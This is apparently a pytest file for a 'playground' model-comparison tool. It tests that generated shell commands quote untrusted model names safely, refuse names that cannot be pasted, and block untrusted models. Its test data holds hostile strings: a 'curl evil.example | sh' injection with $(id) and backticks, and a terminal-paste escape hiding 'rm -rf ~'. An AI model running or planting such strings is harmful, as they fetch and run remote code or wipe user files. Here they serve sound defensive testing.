"""Commands that measure again are made from recipes, and can be pasted."""

from __future__ import annotations

import shlex
from pathlib import Path

import msgspec
import pytest

from playground.core.errors import UntrustedModelError
from playground.evaluate.sweep.commands import command_of, joined
from playground.evaluate.sweep.world import Setup, SweepWorld
from tests.support.compare_results import result
from tests.support.tiny_model import write_model


def test_the_command_of_a_file_is_not_told() -> None:
    assert command_of(result(sampler="ab2", steps=8)).startswith("playground compare fashion-flow --")


def test_words_of_others_are_one_word_each() -> None:
    name = "a; curl evil.example | sh #'$(id)`id`"
    assert shlex.split(command_of(result(model=name, steps=8)))[:3] == ["playground", "compare", name]


@pytest.mark.parametrize("name", ["--data=/", "-x", "a\x1b[201~\nrm -rf ~\n", "a\u202eb", "a\nb"])
def test_there_is_no_command_for_what_cannot_be_pasted(name: str) -> None:
    assert joined("compare", name) == command_of(result(model=name, steps=8)) == ""


def test_a_sweep_that_the_window_asked_for_uses_no_model_that_nobody_allowed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PLAYGROUND_SETTINGS", str(tmp_path / "settings"))
    write_model(tmp_path / "models" / "tiny")
    setup = Setup(model_folders=(str(tmp_path / "models"),), cache=str(tmp_path), trusting=False)
    with pytest.raises(UntrustedModelError):
        SweepWorld(setup).resources.session("tiny", "decoder")
    SweepWorld(msgspec.structs.replace(setup, trusting=True)).resources.session("tiny", "decoder")


def test_of_a_model_that_is_told_words_the_number_of_pictures_is_always_said() -> None:
    """How many are usual for it, its data set says, which another machine may have anew."""
    told = command_of(result("emoji-words", "words", kind="words-sample", count=1, samples=239))
    assert "--samples 239" in told
    assert "--samples" not in command_of(result(steps=8))
